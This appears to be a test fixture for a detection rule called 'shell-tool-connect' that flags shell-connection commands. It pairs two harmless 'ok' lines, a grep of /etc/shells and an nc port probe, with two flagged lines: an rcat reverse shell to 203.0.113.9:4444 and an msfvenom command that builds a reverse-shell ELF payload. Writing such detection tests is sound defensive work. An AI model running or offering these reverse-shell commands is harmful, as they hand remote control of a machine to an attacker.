#!/bin/sh
# ok: shell-tool-connect
grep -e bash /etc/shells
# ok: shell-tool-connect
nc -z -w1 db.internal 5432
# ruleid: shell-tool-connect
rcat connect -s bash 203.0.113.9 4444
# ruleid: shell-tool-connect
msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.9 LPORT=4444 -f elf -o /tmp/p
